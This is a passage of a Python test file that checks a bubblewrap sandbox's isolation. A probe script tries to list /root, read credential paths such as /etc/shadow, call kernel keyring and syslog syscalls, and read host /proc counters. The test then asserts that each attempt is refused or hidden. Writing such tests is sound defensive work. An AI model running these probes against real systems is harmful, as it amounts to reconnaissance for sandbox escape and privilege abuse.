seen["root"] = os.listdir("/root") if os.path.exists("/root") else []
seen["uid"] = os.getuid()
seen["uid_map"] = open("/proc/self/uid_map").read()
seen["caps"] = [l for l in open("/proc/self/status") if l.startswith("CapEff")][0].split()[1]
seen["sid"] = os.getsid(0) == os.getpid() or os.getsid(0) <= 2
for ns in ["user", "mnt", "pid", "net", "ipc", "uts"]:
    seen[ns] = os.readlink(f"/proc/self/ns/{ns}")
try:
    import book
    seen["book"] = True
except ImportError:
    seen["book"] = False
import ctypes, errno, fcntl
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
refused = {}
def refused_with(name, call):
    try:
        result = call()
        refused[name] = result < 0 and ctypes.get_errno() == errno.EPERM
    except PermissionError:
        refused[name] = True
    except OSError:
        refused[name] = False
shared = open("/packages/numpy/version.py")
refused_with("add_key", lambda: libc.syscall(248, b"user", b"k", b"v", 1, ctypes.c_long(-3)))
refused_with("keyctl", lambda: libc.syscall(250, 0, ctypes.c_long(-3), 0))
refused_with("flock", lambda: fcntl.flock(shared, fcntl.LOCK_SH) or 0)
refused_with("fcntl_lock", lambda: fcntl.lockf(shared, fcntl.LOCK_SH) or 0)
refused_with("inotify", lambda: libc.inotify_init())
refused_with("syslog", lambda: libc.klogctl(3, None, 0))
import os
folder = os.open("/packages/numpy", os.O_RDONLY)
reader, writer = os.pipe()
refused_with("dnotify", lambda: fcntl.fcntl(folder, 1026, 0x80000001))
refused_with("pipe_size", lambda: fcntl.fcntl(writer, 1031, 1 << 20))
refused_with("fadvise", lambda: os.posix_fadvise(shared.fileno(), 0, 0, os.POSIX_FADV_DONTNEED) or 0)
refused_with("preadv2", lambda: os.preadv(shared.fileno(), [bytearray(8)], 0, os.RWF_NOWAIT))
refused_with("sysinfo", lambda: libc.sysinfo(ctypes.create_string_buffer(256)))
counters = {}
for path in ["/proc/sys/fs/inode-nr", "/proc/stat", "/proc/loadavg", "/proc/meminfo",
             "/proc/vmstat", "/proc/pressure/cpu"]:
    try:
        counters[path] = open(path).read()
    except OSError:
        counters[path] = ""
seen["counters"] = counters
seen["refused"] = refused
import numpy, sympy, scipy
sys.stdout.write(json.dumps(seen))
'''.replace("@REPO@", repr(str(ROOT))).replace("@TMP@", repr(str(tmp_path))), 60, 2**30)
    host_uids = set()
    try:
        deadline = time.monotonic() + 1
        while time.monotonic() < deadline:
            for pid, cmdline in processes_of_the_sandbox():
                if b"bwrap" in cmdline.split(b"\0")[0] or b"setpriv" in cmdline.split(b"\0")[0]:
                    continue   # bwrap's own processes, which start as root to build the view
                status = pathlib.Path(f"/proc/{pid}/status").read_text()
                host_uids.add(int(re.search(r"^Uid:\s+(\d+)", status, re.M).group(1)))
            time.sleep(0.1)
        out, err = probe.communicate()
    finally:
        probe.kill()
    seen = json.loads(out)
    assert not any(seen[p] for p in ["/home", "/etc/shadow", "/etc/passwd", "/dev/tty", "/dev/kmsg",
                                     "/dev/pts", "/dev/shm", str(ROOT), str(tmp_path)]), seen
    assert seen["dev"] == ["null", "random", "urandom", "zero"]
    assert seen["tmp"] == [] and seen["book"] is False
    assert seen["uid"] == sandboxes.SANDBOX_UID and seen["caps"] == "0000000000000000"
    assert all(seen["refused"].values()) and len(seen["refused"]) == 11, seen["refused"]
    assert set(seen["counters"].values()) == {""}     # machine-wide counters hidden
    for ns in ["user", "mnt", "pid", "net", "ipc", "uts"]:
        assert seen[ns] != os.readlink(f"/proc/self/ns/{ns}"), ns
    if os.geteuid() == 0:   # on the host, it was a uid of its own, not root
        assert host_uids and all(uid in sandboxes.HOST_UIDS for uid in host_uids), host_uids
    else:
        assert host_uids == {os.geteuid()}
